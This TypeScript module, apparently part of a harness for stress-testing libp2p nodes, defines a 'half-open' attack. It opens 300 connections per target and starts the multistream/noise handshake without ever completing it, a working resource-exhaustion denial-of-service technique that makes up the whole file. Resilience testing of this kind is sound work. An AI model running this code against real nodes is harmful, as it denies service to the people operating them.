import { randomBytes } from 'node:crypto';
import type { Attack } from '../attack.ts';
import { keepOpen } from '../raw-socket.ts';

const CONNECTIONS = 300;
const OPENING = Buffer.from('\x13/multistream/1.0.0\n\x07/noise\n', 'latin1');

/** The first message of noise: a length, and an ephemeral key that nobody has the secret of. */
const firstMessage = (): Buffer => Buffer.concat([Uint8Array.of(0, 32), randomBytes(32)]);

export const attack: Attack = {
  name: 'half-open',
  what: `${CONNECTIONS} connections to each node begin the handshake and never end it.`,
  run: ({ targets }, signal) =>
    keepOpen(targets, CONNECTIONS, signal, (_, i) => (i % 2 === 0 ? [OPENING] : [OPENING, firstMessage()])),
};
